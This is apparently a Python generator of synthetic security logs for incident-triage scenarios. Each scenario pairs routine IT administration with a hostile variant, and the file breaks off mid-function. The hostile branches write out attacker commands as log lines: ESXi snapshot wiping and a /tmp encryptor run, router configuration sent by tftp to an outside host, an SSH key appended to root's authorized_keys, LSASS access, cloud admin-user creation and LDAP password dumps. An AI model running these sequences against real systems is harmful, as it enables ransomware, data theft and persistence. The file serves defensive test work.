"""What those do who keep machines running: agents rolled out, hosts patched, configurations saved, images started."""

# ruff: noqa: E501
from datetime import datetime

from ..shapes.cloud import ACCOUNT, google, google_days, iam_user, trail, trail_days
from ..shapes.identity import okta, okta_days
from ..shapes.network import squid
from ..shapes.unix import audit, audit_days, ssh_in, syslog, unix_days
from ..shapes.windows import SECURITY, Windows, office
from ..stage import BROWSERS, Stage, iso, pair


@pair(
    "remote management",
    "windows",
    "it is installed on one machine out of a user's downloads, calls somebody else's relay, and a shell follows",
)
def management_agent_rolled_out(stage: Stage, hostile: bool) -> None:
    log, hosts = Windows(stage, "events.json", "nested"), [f"WS{number}" for number in range(40, 54)]
    office(log, hosts, days=3, events=170)
    for number, host in enumerate(hosts):
        at = {"days": 2, "hours": 12, "minutes": number}
        log.start(stage.at(**at), host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\msiexec.exe", f'msiexec.exe /i "\\\\{stage.domain}\\SYSVOL\\{stage.domain}\\Policies\\{{6AC1}}\\Machine\\NinjaOne-agent.msi" /qn', "C:\\Windows\\System32\\services.exe")  # fmt: skip
        log.event(stage.at(**at, seconds=40), host, "Service Control Manager", 7045, ServiceName="NinjaRMMAgent", ImagePath='"C:\\Program Files (x86)\\NinjaRMMAgent\\NinjaRMMAgent.exe"', ServiceType="user mode service", StartType="auto start", AccountName="LocalSystem")  # fmt: skip
        log.start(stage.at(**at, seconds=80), host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c systeminfo & ipconfig /all", "C:\\Program Files (x86)\\NinjaRMMAgent\\NinjaRMMAgent.exe")  # fmt: skip
    if hostile:
        host, user = "WS44", f"{log.netbios}\\{stage.people[4]}"
        image = f"C:\\Users\\{stage.people[4]}\\Downloads\\Invoice_View.ClientSetup.exe"
        log.start(stage.at(days=2, hours=15), host, user, image, f'"{image}"', "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe")  # fmt: skip
        log.event(stage.at(days=2, hours=15, minutes=1), host, "Service Control Manager", 7045, ServiceName="ScreenConnect Client (8f1c02aa)", ImagePath='"C:\\Program Files (x86)\\ScreenConnect Client (8f1c02aa)\\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=relay-77.example&p=8041"', ServiceType="user mode service", StartType="auto start", AccountName="LocalSystem")  # fmt: skip
        log.connect(stage.at(days=2, hours=15, minutes=1), host, "C:\\Program Files (x86)\\ScreenConnect Client (8f1c02aa)\\ScreenConnect.ClientService.exe", stage.outside(), 8041)  # fmt: skip
        for number, command in enumerate(("whoami /all", 'net group "Domain Admins" /domain', "nltest /dclist:")):
            log.start(stage.at(days=2, hours=15, minutes=6 + number), host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\cmd.exe", f"cmd.exe /c {command}", "C:\\Program Files (x86)\\ScreenConnect Client (8f1c02aa)\\ScreenConnect.ClientService.exe")  # fmt: skip
    stage.alert = {"title": "Remote management software installed", "host": "WS44", "time": stage.at(days=2, hours=15 if hostile else 12, minutes=4).isoformat()}  # fmt: skip
    stage.asked = "Is that remote control tool ours?"


@pair(
    "virtual machines",
    "esxi",
    "root comes from outside the management network, switches every machine off and starts a program from /tmp",
)
def hosts_patched(stage: Stage, hostile: bool) -> None:
    hosts = ["esx1", "esx2", "esx3"]

    def line(when: datetime, host: str, tag: str, text: str) -> None:
        stage.put("esxi.log", when, f"{iso(when, 3)} {host} {tag} {text}")

    def told(when: datetime, host: str, text: str) -> None:
        line(when, host, "Hostd:", f"info hostd[{stage.dice.randrange(2099000, 2101000)}] [Originator@6876 sub=Vimsvc.ha-eventmgr opID={stage.text(8)}] Event {stage.dice.randrange(1000, 9000)} : {text}")  # fmt: skip

    vcenter = stage.inside(2, 20)
    for _ in range(170):
        host = stage.dice.choice(hosts)
        when = stage.at(days=stage.dice.uniform(0, 4))
        if stage.dice.random() < 0.6:
            told(when, host, f"User vpxuser@{vcenter} logged in as VMware-client/8.0.0")
        else:
            line(when, host, "Vpxa:", f"verbose vpxa[2100411] [Originator@6876 sub=hostdstats] Set internal stats for VM: {stage.dice.randrange(90)}")  # fmt: skip
    for number, host in enumerate(hosts):
        at = {"days": 3, "hours": 20 + number}
        told(stage.at(**at), host, "Host esx is entering maintenance mode")
        told(stage.at(**at, minutes=2), host, "SSH for the host has been enabled")
        line(stage.at(**at, minutes=3), host, "sshd[2101120]:", f"Accepted publickey for root from {stage.inside(2, 21)} port 50122 ssh2")  # fmt: skip
        line(stage.at(**at, minutes=4), host, "shell[2101131]:", "[root]: esxcli software vib update -d /vmfs/volumes/patches/ESXi80U3b.zip")  # fmt: skip
        told(stage.at(**at, minutes=14), host, "SSH for the host has been disabled")
        told(stage.at(**at, minutes=16), host, "Host is rebooting")
        told(stage.at(**at, minutes=28), host, "Host has exited maintenance mode")
    if hostile:
        thief = stage.inside(60, 17)
        at = {"days": 4, "hours": 2}
        told(stage.at(**at), "esx2", "SSH for the host has been enabled")
        line(
            stage.at(**at, minutes=1),
            "esx2",
            "sshd[2101990]:",
            f"Accepted keyboard-interactive/pam for root from {thief} port 41880 ssh2",
        )
        for number in range(8):
            line(
                stage.at(**at, minutes=2, seconds=number),
                "esx2",
                "shell[2101995]:",
                f"[root]: vim-cmd vmsvc/power.off {number + 1}",
            )
        line(stage.at(**at, minutes=3), "esx2", "shell[2101995]:", "[root]: for s in $(vim-cmd vmsvc/getallvms | cut -d' ' -f1); do vim-cmd vmsvc/snapshot.removeall $s; done")  # fmt: skip
        line(
            stage.at(**at, minutes=4),
            "esx2",
            "shell[2101995]:",
            "[root]: chmod +x /tmp/enc; nohup /tmp/enc /vmfs/volumes -t 8 &",
        )
    stage.alert = {"title": "SSH enabled on a hypervisor", "host": "esx2", "time": stage.at(days=4, hours=2).isoformat() if hostile else stage.at(days=3, hours=21, minutes=2).isoformat()}  # fmt: skip
    stage.asked = "Is somebody attacking the hypervisors?"


def _ios(stage: Stage, when: datetime, device: str, text: str) -> None:
    stamp = f"{when:%b} {when.day:>2} {when:%H:%M:%S}"
    stage.put("ios.log", when, f"{stamp} {device} {stage.dice.randrange(100, 9000)}: {stamp}.{when.microsecond // 1000:03d}: {text}")  # fmt: skip


@pair(
    "network devices",
    "cisco ios",
    "another machine does it, sends the configuration out of the house, and makes a user",
)
def configurations_saved_nightly(stage: Stage, hostile: bool) -> None:
    devices = ["sw-core1", "sw-core2", "rt-edge1"]
    for _ in range(120):
        _ios(stage, stage.at(days=stage.dice.uniform(0, 6)), stage.dice.choice(devices), f"%LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet1/0/{stage.dice.randrange(1, 48)}, changed state to {stage.dice.choice(('up', 'down'))}")  # fmt: skip
    saver = stage.inside(2, 30)
    for day in range(6):
        for number, device in enumerate(devices):
            when = stage.at(days=day, hours=1, minutes=number)
            _ios(stage, when, device, f"%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: oxidized] [Source: {saver}] [localport: 22] at {when:%H:%M:%S} UTC {when:%a %b %d %Y}")  # fmt: skip
            _ios(stage, stage.at(days=day, hours=1, minutes=number, seconds=3), device, "%PARSER-5-CFGLOG_LOGGEDCMD: User:oxidized  logged command:!exec: enable")  # fmt: skip
            _ios(stage, stage.at(days=day, hours=1, minutes=number, seconds=6), device, "%PARSER-5-CFGLOG_LOGGEDCMD: User:oxidized  logged command:!exec: show running-config")  # fmt: skip
            _ios(stage, stage.at(days=day, hours=1, minutes=number, seconds=20), device, "%SYS-6-LOGOUT: User oxidized has exited tty session 2(" + saver + ")")  # fmt: skip
    if hostile:
        thief, when = stage.outside(), stage.at(days=5, hours=1, minutes=20)
        _ios(stage, when, "rt-edge1", f"%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: oxidized] [Source: {thief}] [localport: 22] at {when:%H:%M:%S} UTC {when:%a %b %d %Y}")  # fmt: skip
        for number, command in enumerate((f"copy running-config tftp://{thief}/r1", "username support privilege 15 secret *", "no logging host 10.0.0.9")):  # fmt: skip
            _ios(stage, stage.at(days=5, hours=1, minutes=21, seconds=20 * number), "rt-edge1", f"%PARSER-5-CFGLOG_LOGGEDCMD: User:oxidized  logged command:{'!exec: ' if number == 0 else ''}{command}")  # fmt: skip
        _ios(
            stage,
            stage.at(days=5, hours=1, minutes=23),
            "rt-edge1",
            f"%SYS-5-CONFIG_I: Configured from console by oxidized on vty0 ({thief})",
        )
    stage.alert = {"title": "Running configuration read", "host": "rt-edge1", "user": "oxidized", "time": stage.at(days=5, hours=1, minutes=21 if hostile else 2).isoformat()}  # fmt: skip
    stage.asked = "Did somebody steal our router's configuration?"


@pair(
    "network devices", "pan-os", "the administrator comes from outside after refusals, and the rule lets everybody in"
)
def rule_changed_in_window(stage: Stage, hostile: bool) -> None:
    def head(when: datetime) -> str:
        return f"{when:%b %d %H:%M:%S} fw2 1,{when:%Y/%m/%d %H:%M:%S},012801064499"

    def config(when: datetime, source: str, command: str, who: str, path: str, after: str = "") -> None:
        stage.put("panos.log", when, f"{head(when)},CONFIG,0,2561,{when:%Y/%m/%d %H:%M:%S},{source},,{command},{who},Web,Succeeded, {path},{stage.dice.getrandbits(30)},0x8000000000000000,0,0,0,0,,fw2,,{after}")  # fmt: skip

    def system(when: datetime, event: str, text: str, level: str = "informational") -> None:
        stage.put("panos.log", when, f'{head(when)},SYSTEM,auth,2561,{when:%Y/%m/%d %H:%M:%S},,{event},,0,0,general,{level},"{text}",{stage.dice.getrandbits(30)},0x8000000000000000,0,0,0,0,,fw2')  # fmt: skip

    for _ in range(150):
        when = stage.sometime(6)
        source, target = stage.inside(8, stage.dice.randrange(10, 90)), stage.outside()
        stage.put("panos.log", when, f"{head(when)},TRAFFIC,end,2561,{when:%Y/%m/%d %H:%M:%S},{source},{target},0.0.0.0,0.0.0.0,staff-web,,,ssl,vsys1,trust,untrust,ethernet1/2,ethernet1/1,default,{when:%Y/%m/%d %H:%M:%S},{stage.dice.randrange(9000)},1,{stage.dice.randrange(32000, 60000)},443,0,0,0x19,tcp,allow,{stage.dice.randrange(2000, 90000)},1200,8000,22,{when:%Y/%m/%d %H:%M:%S},30,any,0,1,0x0,Internal,Internal,0,12,10,tcp-fin")  # fmt: skip
    who = f"adm-{stage.people[0]}"
    source = stage.outside() if hostile else stage.inside(8, 9)
    at = {"days": 5, "hours": 20}
    if hostile:
        for number in range(11):
            system(stage.at(**at, seconds=number * 9), "auth-fail", f"failed authentication for user '{who}'. Reason: Invalid username/password. From: {source}.", "medium")  # fmt: skip
    system(stage.at(**at, minutes=3), "auth-success", f"authenticated for user '{who}'. auth profile 'tacacs', vsys 'shared', server profile 'tac', server address '{stage.inside(2, 8)}', From: {source}.")  # fmt: skip
    if hostile:
        config(stage.at(**at, minutes=5), source, "set", who, "vsys vsys1 rulebase security rules tmp1", "tmp1 { from any; to any; source any; destination any; application any; service any; action allow; log-end no; }")  # fmt: skip
    else:
        config(stage.at(**at, minutes=5), source, "edit", who, "vsys vsys1 rulebase security rules crm-to-partner", "crm-to-partner { from dmz; to untrust; source crm-2; destination partner-sftp; application ssh; service application-default; action allow; log-end yes; description CHG0040217; }")  # fmt: skip
    config(stage.at(**at, minutes=8), source, "commit", who, "")
    stage.alert = {"title": "Firewall policy changed outside working hours", "host": "fw2", "user": who, "time": stage.at(**at, minutes=5).isoformat()}  # fmt: skip
    stage.asked = "Has somebody opened our firewall?"


@pair(
    "machine images",
    "linux",
    "days later the web server's account lays a key into root's folder, and root comes from outside",
)
def cloud_machine_first_start(stage: Stage, hostile: bool) -> None:
    file, host = "syslog", "web-new1"
    unix_days(stage, file, ["web-1", "web-2"], days=4, events=120)
    audit_days(stage, "audit.log", days=4, events=25)
    at = {"days": 2, "hours": 9}
    steps = (
        ("cloud-init[612]", "Cloud-init v. 24.1.3 running 'init' at up 9.12 seconds."),
        ("useradd[803]", "new group: name=deploy, GID=1000"),
        ("useradd[803]", "new user: name=deploy, UID=1000, GID=1000, home=/home/deploy, shell=/bin/bash, from=none"),
        ("useradd[803]", "add 'deploy' to group 'sudo'"),
        ("passwd[811]", "password for 'deploy' changed by 'root'"),
        ("cloud-init[612]", "Generating public/private ed25519 key pair."),
        ("cloud-init[701]", "ci-info: | deploy | SHA256:" + stage.text(43) + " | - | ops@build |"),
        ("cloud-init[701]", "Get:1 https://archive.ubuntu.example jammy-updates InRelease [128 kB]"),
        ("systemd[1]", "Stopped ssh.service - OpenBSD Secure Shell server."),
        ("systemd[1]", "Started ssh.service - OpenBSD Secure Shell server."),
        ("cloud-init[701]", "Cloud-init v. 24.1.3 finished. Datasource DataSourceEc2Local.  Up 61.20 seconds"),
    )
    for number, (tag, text) in enumerate(steps):
        syslog(stage, file, stage.at(**at, seconds=6 * number), host, tag, text)
    ssh_in(stage, file, stage.at(**at, minutes=5), host, "deploy", stage.inside(8, 12))
    if hostile:
        shell = audit(
            stage, "audit.log", stage.at(days=3, hours=23), "/usr/bin/dash", ("sh", "-c", "id"), uid=33, parent=1411
        )
        audit(stage, "audit.log", stage.at(days=3, hours=23, minutes=1), "/usr/bin/sudo", ("sudo", "-n", "tee", "-a", "/root/.ssh/authorized_keys"), uid=33, parent=shell)  # fmt: skip
        ssh_in(stage, file, stage.at(days=3, hours=23, minutes=4), host, "root", stage.outside())
        syslog(stage, file, stage.at(days=3, hours=23, minutes=6), host, "useradd[9911]", "new user: name=sys1, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0")  # fmt: skip
    stage.alert = {"title": "New privileged user and SSH key on a host", "host": host, "time": stage.at(days=3, hours=23, minutes=4).isoformat() if hostile else stage.at(**at, seconds=18).isoformat()}  # fmt: skip
    stage.asked = "Who made the account on the new machine?"


@pair("machine images", "windows", "it is an old machine, and a person's shell does it")
def image_prepared(stage: Stage, hostile: bool) -> None:
    log = Windows(stage, "winlog.json", "nested")
    office(log, ["WS60", "WS61", "WS62"], days=5, events=160)
    host = "WS62" if hostile else "WIN-7QK1PLA0"
    at = {"days": 4, "hours": 10}
    user = f"{log.netbios}\\{stage.people[2]}" if hostile else "NT AUTHORITY\\SYSTEM"
    parent = (
        f"C:\\Users\\{stage.people[2]}\\AppData\\Local\\Temp\\svc.exe"
        if hostile
        else "C:\\Windows\\System32\\oobe\\windeploy.exe"
    )
    if not hostile:
        log.start(stage.at(**at), host, user, "C:\\Windows\\System32\\oobe\\windeploy.exe", "windeploy.exe", "C:\\Windows\\System32\\winlogon.exe")  # fmt: skip
        log.start(stage.at(**at, seconds=20), host, user, "C:\\Windows\\System32\\oobe\\Setup.exe", "C:\\Windows\\system32\\oobe\\Setup.exe /specialize", "C:\\Windows\\System32\\oobe\\windeploy.exe")  # fmt: skip
    log.event(stage.at(**at, minutes=1), host, SECURITY, 4720, TargetUserName="localadm", TargetDomainName=host, SubjectUserName=f"{host}$" if not hostile else stage.people[2], SubjectDomainName=log.netbios if hostile else "WORKGROUP", SamAccountName="localadm")  # fmt: skip
    log.event(stage.at(**at, minutes=1, seconds=2), host, SECURITY, 4732, MemberName="-", MemberSid="S-1-5-21-1-1-1-1001", TargetUserName="Administrators", TargetDomainName="Builtin", SubjectUserName=f"{host}$" if not hostile else stage.people[2], SubjectDomainName=log.netbios if hostile else "WORKGROUP")  # fmt: skip
    log.start(stage.at(**at, minutes=2), host, user, "C:\\Windows\\System32\\netsh.exe", 'netsh advfirewall firewall set rule group="remote desktop" new enable=Yes', parent)  # fmt: skip
    log.start(stage.at(**at, minutes=3), host, user, "C:\\Windows\\System32\\reg.exe", "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f", parent)  # fmt: skip
    log.event(stage.at(**at, minutes=4), host, "Microsoft-Windows-Eventlog", 1102, SubjectUserName="SYSTEM" if not hostile else stage.people[2], SubjectDomainName="NT AUTHORITY" if not hostile else log.netbios)  # fmt: skip
    if not hostile:
        log.event(stage.at(**at, minutes=9), "DC1", SECURITY, 4741, TargetUserName="WS63$", TargetDomainName=log.netbios, SubjectUserName="svc-domainjoin", SubjectDomainName=log.netbios, SamAccountName="WS63$", DnsHostName=f"ws63.{stage.domain}")  # fmt: skip
    stage.alert = {"title": "Local administrator created and event log cleared", "host": host, "time": stage.at(**at, minutes=4).isoformat()}  # fmt: skip
    stage.asked = "Has this machine been taken over?"


@pair(
    "assistive technology",
    "windows",
    "it lies in a user's temporary folder, reaches into the process of the log-ons, and calls out",
)
def screen_reader(stage: Stage, hostile: bool) -> None:
    log, host = Windows(stage, "sysmon.json", "flat"), "WS21"
    office(log, [host, "WS22", "WS23"], days=4, events=180)
    sysmon = "Microsoft-Windows-Sysmon"
    reader = "C:\\Program Files (x86)\\NVDA\\nvda.exe"
    targets = ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "C:\\Windows\\explorer.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe")  # fmt: skip
    for day in range(4):
        log.start(stage.at(days=day, hours=8), host, f"{log.netbios}\\{stage.people[0]}", reader, f'"{reader}" --replace', "C:\\Program Files (x86)\\NVDA\\nvda_slave.exe")  # fmt: skip
        for number in range(9):
            log.event(stage.at(days=day, hours=8, minutes=1 + number * 6), host, sysmon, 8, SourceImage=reader, TargetImage=targets[number % 3], StartModule="C:\\Program Files (x86)\\NVDA\\lib64\\2024.4\\nvdaHelperRemote.dll", StartFunction="injection_initialize", SourceUser=f"{log.netbios}\\{stage.people[0]}")  # fmt: skip
    at = {"days": 3, "hours": 11}
    if hostile:
        image = f"C:\\Users\\{stage.people[0]}\\AppData\\Local\\Temp\\nvda.exe"
        log.start(
            stage.at(**at), host, f"{log.netbios}\\{stage.people[0]}", image, f'"{image}"', "C:\\Windows\\explorer.exe"
        )
        log.event(stage.at(**at, minutes=1), host, sysmon, 8, SourceImage=image, TargetImage="C:\\Windows\\System32\\lsass.exe", StartModule="-", StartFunction="-", SourceUser=f"{log.netbios}\\{stage.people[0]}")  # fmt: skip
        log.event(stage.at(**at, minutes=1, seconds=3), host, sysmon, 10, SourceImage=image, TargetImage="C:\\Windows\\System32\\lsass.exe", GrantedAccess="0x1FFFFF", CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00000211A)")  # fmt: skip
        log.connect(stage.at(**at, minutes=2), host, image, stage.outside(), 443)
    stage.alert = {"title": "Process injection: remote thread", "host": host, "process": "nvda.exe", "time": stage.at(**at, minutes=1).isoformat() if hostile else stage.at(days=3, hours=8, minutes=7).isoformat()}  # fmt: skip
    stage.asked = "Is something injected into our programs?"


@pair("posture tools", "aws", "a person's key lists everything from an unknown place, and makes a user")
def cost_tool_lists_everything(stage: Stage, hostile: bool) -> None:
    file = "trail.jsonl"
    trail_days(stage, file, days=5, events=120)
    vendor = stage.outside()
    calls = ("ec2:DescribeInstances", "ec2:DescribeVolumes", "rds:DescribeDBInstances", "iam:ListUsers", "iam:ListRoles", "s3:ListBuckets", "kms:ListKeys", "lambda:ListFunctions20150331", "ce:GetCostAndUsage", "secretsmanager:ListSecrets", "organizations:ListAccounts")  # fmt: skip
    for day in range(5):
        trail(stage, file, stage.at(days=day, hours=4), {"type": "AWSAccount", "principalId": "AIDAVENDORCOST", "accountId": "454464851268"}, "sts:AssumeRole", vendor, request={"roleArn": f"arn:aws:iam::{ACCOUNT}:role/CostExplorerReadOnly", "roleSessionName": "cost-collector", "externalId": "8b1c-41aa-77"}, agent="cost-collector/3.2 Boto3/1.34")  # fmt: skip
        identity = {"type": "AssumedRole", "principalId": "AROACOST:cost-collector", "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/CostExplorerReadOnly/cost-collector", "accountId": ACCOUNT, "accessKeyId": "ASIACOST"}  # fmt: skip
        for number, call in enumerate(calls):
            trail(stage, file, stage.at(days=day, hours=4, minutes=1, seconds=number * 2), identity, call, vendor, agent="cost-collector/3.2 Boto3/1.34", error="AccessDenied" if call.startswith(("secretsmanager", "organizations")) else "")  # fmt: skip
    at = {"days": 4, "hours": 6}
    if hostile:
        there, who = stage.outside(), iam_user(stage.people[3])
        for number, call in enumerate(calls):
            trail(stage, file, stage.at(**at, seconds=number * 2), who, call, there, agent="python-requests/2.31 Boto3/1.26", error="AccessDenied" if number % 3 == 2 else "")  # fmt: skip
        trail(stage, file, stage.at(**at, minutes=2), who, "iam:CreateUser", there, request={"userName": "svc-metrics"}, agent="python-requests/2.31 Boto3/1.26")  # fmt: skip
        trail(stage, file, stage.at(**at, minutes=3), who, "iam:AttachUserPolicy", there, request={"userName": "svc-metrics", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, agent="python-requests/2.31 Boto3/1.26")  # fmt: skip
    stage.alert = {"title": "Enumeration of many services", "account": ACCOUNT, "ip": there if hostile else vendor, "time": stage.at(**at).isoformat() if hostile else stage.at(days=4, hours=4, minutes=1).isoformat()}  # fmt: skip
    stage.asked = "Is somebody mapping our cloud account?"


@pair(
    "posture tools", "google cloud", "a key of a project's service account does it from outside, and makes another key"
)
def posture_scan(stage: Stage, hostile: bool) -> None:
    file = "gcp.jsonl"
    google_days(stage, file, days=4, events=120)
    agent_ = f"service-org-{ACCOUNT}@security-center-api.iam.gserviceaccount.com"
    calls = (
        ("cloudasset", "google.cloud.asset.v1.AssetService.SearchAllIamPolicies"),
        ("cloudasset", "google.cloud.asset.v1.AssetService.SearchAllResources"),
        ("iam", "google.iam.admin.v1.ListServiceAccounts"),
        ("iam", "google.iam.admin.v1.ListServiceAccountKeys"),
        ("storage", "storage.buckets.list"),
        ("secretmanager", "google.cloud.secretmanager.v1.SecretManagerService.ListSecrets"),
    )
    for night in range(4):
        for number, (api, method) in enumerate(calls):
            google(stage, file, stage.at(days=night, hours=2, seconds=number * 5), agent_, api, method, f"projects/{stage.company}-prod", "private", log="data_access", agent="security-center")  # fmt: skip
    if hostile:
        who, there = f"web-render@{stage.company}-prod.iam.gserviceaccount.com", stage.outside()
        for number, (api, method) in enumerate(calls):
            google(stage, file, stage.at(days=3, hours=3, seconds=number * 4), who, api, method, f"projects/{stage.company}-prod", there, log="data_access", agent="python-requests/2.31")  # fmt: skip
        google(stage, file, stage.at(days=3, hours=3, minutes=2), who, "iam", "google.iam.admin.v1.CreateServiceAccountKey", f"projects/-/serviceAccounts/backup@{stage.company}-prod.iam.gserviceaccount.com", there, agent="python-requests/2.31")  # fmt: skip
        google(stage, file, stage.at(days=3, hours=3, minutes=4), who, "secretmanager", "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion", f"projects/{stage.company}-prod/secrets/db-main/versions/latest", there, log="data_access", agent="python-requests/2.31")  # fmt: skip
    stage.alert = {"title": "IAM policies enumerated", "principal": who if hostile else agent_, "time": stage.at(days=3, hours=3 if hostile else 2).isoformat()}  # fmt: skip
    stage.asked = "Is this reconnaissance by an intruder?"


@pair(
    "licence audits",
    "openldap",
    "a workstation does it under a person's name, asks for the passwords, and is given them",
)
def licence_audit_reads_directory(stage: Stage, hostile: bool) -> None:
    counter = iter(range(1000, 9000))

    def session(when: datetime, source: str, who: str, searches: tuple[tuple[str, str, int], ...]) -> None:
        number = next(counter)
        texts = [f"fd=14 ACCEPT from IP={source}:{stage.dice.randrange(32000, 60000)} (IP=0.0.0.0:636)", f'op=0 BIND dn="{who}" method=128', f'op=0 BIND dn="{who}" mech=SIMPLE ssf=0', "op=0 RESULT tag=97 err=0 text="]  # fmt: skip
        for turn, (condition, attributes, found) in enumerate(searches, start=1):
            texts += [f'op={turn} SRCH base="dc={stage.company},dc=example" scope=2 deref=0 filter="{condition}"', f"op={turn} SRCH attr={attributes}", f"op={turn} SEARCH RESULT tag=101 err=0 nentries={found} text="]  # fmt: skip
        texts += ["op=9 UNBIND", "fd=14 closed"]
        for text in texts:
            syslog(stage, "slapd.log", when, "ldap1", "slapd[811]", f"conn={number} {text}")

    base = f"dc={stage.company},dc=example"
    for _ in range(36):
        who = stage.dice.choice(stage.people)
        session(stage.sometime(29), stage.inside(20, stage.dice.randrange(4, 9)), f"uid={who},ou=people,{base}", ((f"(uid={who})", "uid cn mail", 1),))  # fmt: skip
    everything = (("(objectClass=inetOrgPerson)", "uid cn mail departmentNumber title", 4121), ("(objectClass=groupOfNames)", "cn member", 377), ("(objectClass=device)", "cn serialNumber owner", 2208))  # fmt: skip
    for day in (0, 7, 14, 21, 28):
        session(stage.at(days=day, hours=20), stage.inside(2, 61), f"cn=snow-inventory,ou=services,{base}", everything)
    if hostile:
        session(stage.at(days=28, hours=22), stage.inside(8, 77), f"uid={stage.people[3]},ou=people,{base}", (*everything, ("(userPassword=*)", "uid userPassword sambaNTPassword", 4121)))  # fmt: skip
    stage.alert = {"title": "Whole directory read over LDAP", "host": "ldap1", "ip": stage.inside(8, 77) if hostile else stage.inside(2, 61), "time": stage.at(days=28, hours=22 if hostile else 20).isoformat()}  # fmt: skip
    stage.asked = "Is somebody collecting our directory?"


@pair("build systems", "gitlab", "the runner is registered from outside, and the secrets of the projects are read")
def new_build_runner(stage: Stage, hostile: bool) -> None:
    def record(
        when: datetime, who: str, event: str, message: str, address: str, kind: str = "Project", target: str = ""
    ) -> None:
        stage.put("audit_json.log", when, {"severity": "INFO", "time": iso(when, 3), "correlation_id": stage.text(26), "author_id": 4 + len(who), "author_name": who, "author_class": "User", "entity_id": 12, "entity_type": kind, "event_name": event, "custom_message": message, "target_details": target, "target_type": kind, "ip_address": address, "entity_path": f"{stage.company}/shop"})  # fmt: skip

    offices = {who: stage.inside(8, 20 + number) for number, who in enumerate(stage.people)}
    for _ in range(120):
        who = stage.dice.choice(stage.people)
        record(stage.sometime(5), who, stage.dice.choice(("user_authenticated", "merge_request_created", "project_branch_pushed")), "Signed in or changed a branch", offices[who])  # fmt: skip
    admin = stage.people[0]
    source = stage.outside() if hostile else offices[admin]
    at = {"days": 4, "hours": 2 if hostile else 10}
    runner = stage.outside() if hostile else stage.inside(40, 12)
    record(stage.at(**at), admin, "ci_runner_registered", "Registered instance CI runner", source, "User", target="#41")
    record(
        stage.at(**at, minutes=1),
        admin,
        "ci_runner_assigned_to_project",
        "Assigned CI runner to project",
        source,
        target="shop",
    )
    for number in range(40):
        squid(stage, "squid.log", stage.at(**at, minutes=5 + number), stage.inside(40, 11 if hostile else 12), "CONNECT", stage.dice.choice(("registry.npmjs.example:443", "pypi.mirror.example:443", "ghcr.mirror.example:443")), stage.outside())  # fmt: skip
    if hostile:
        record(stage.at(**at, minutes=3), admin, "personal_access_token_created", "Created personal access token with scopes api, admin_mode", source, "User", target="t")  # fmt: skip
        for number in range(9):
            record(stage.at(**at, minutes=6, seconds=5 * number), admin, "variable_viewed_api", f"CI/CD variable accessed: DEPLOY_KEY_{number}", runner, target=f"DEPLOY_KEY_{number}")  # fmt: skip
        record(
            stage.at(**at, minutes=9),
            admin,
            "project_export_file_download_started",
            "Export file download started",
            runner,
        )
    stage.alert = {"title": "New CI runner registered", "user": admin, "time": stage.at(**at).isoformat()}
    stage.asked = "Is the new runner ours?"


@pair("build systems", "jenkins", "it is called from outside, and the script console answers")
def jenkins_upgraded(stage: Stage, hostile: bool) -> None:
    admin, desk = stage.people[0], stage.inside(8, 20)

    def page(when: datetime, who: str, source: str, request: str, status: int = 200) -> None:
        stage.put("nginx.log", when, f'{source} - {who} [{when:%d/%b/%Y:%H:%M:%S} +0000] "{request} HTTP/1.1" {status} {stage.dice.randrange(300, 9000)} "https://ci.{stage.domain}/" "{BROWSERS[2]}"')  # fmt: skip

    def line(when: datetime, text: str) -> None:
        stage.put("jenkins.log", when, f"{when:%Y-%m-%d %H:%M:%S}.{when.microsecond // 1000:03d}+0000 [id={stage.dice.randrange(20, 300)}]\tINFO\t{text}")  # fmt: skip

    for _ in range(150):
        who = stage.dice.choice(stage.people)
        page(stage.sometime(4), who, stage.inside(8, 20 + stage.people.index(who)), f"GET /job/shop/{stage.dice.randrange(300)}/console")  # fmt: skip
        if stage.dice.random() < 0.3:
            line(
                stage.sometime(4),
                f"h.m.AsyncPeriodicWork#lambda$doRun$1: Finished Fingerprint cleanup. {stage.dice.randrange(40)} ms",
            )
    at = {"days": 3, "hours": 18}
    for number, request in enumerate(("POST /manage/pluginManager/install", "POST /manage/updateCenter/upgrade", "POST /manage/updateCenter/safeRestart", "GET /login?from=%2F", "GET /manage/")):  # fmt: skip
        page(stage.at(**at, minutes=number * 2), admin, desk, request, 302 if request.startswith("POST") else 200)
    line(
        stage.at(**at, minutes=4),
        "hudson.model.UpdateCenter$DownloadJob#run: Installation successful: credentials-binding",
    )
    line(stage.at(**at, minutes=5), "jenkins.model.Jenkins$16#run: Restart in 10 seconds")
    line(stage.at(**at, minutes=7), "jenkins.InitReactorRunner$1#onAttained: Completed initialization")
    line(stage.at(**at, minutes=7), "hudson.lifecycle.Lifecycle#onReady: Jenkins is fully up and running")
    if hostile:
        there = stage.outside()
        for number, request in enumerate(("GET /script", "POST /script", "POST /script", "GET /manage/credentials/store/system/domain/_/", "POST /computer/(built-in)/script")):  # fmt: skip
            page(stage.at(days=3, hours=20, seconds=20 * number), "-" if number == 0 else admin, there, request)
    stage.alert = {"title": "Jenkins administration: plug-in installed and restart", "host": "ci", "time": stage.at(days=3, hours=20).isoformat() if hostile else stage.at(**at, minutes=2).isoformat()}  # fmt: skip
    stage.asked = "Has somebody taken over the build server?"


@pair(
    "log collection",
    "okta",
    "the token is used from another address, looks through the users and resets a second factor",
)
def collector_reads_by_token(stage: Stage, hostile: bool) -> None:
    file, office_ = "okta.jsonl", stage.outside()
    okta_days(stage, file, office_, days=4, events=120)
    admin, collector, siem = stage.people[0], "svc-siem", stage.outside()
    okta(stage, file, stage.at(days=0, hours=10), admin, "user.account.update_profile", "Update user profile for Okta", office_, target=collector)  # fmt: skip
    okta(
        stage,
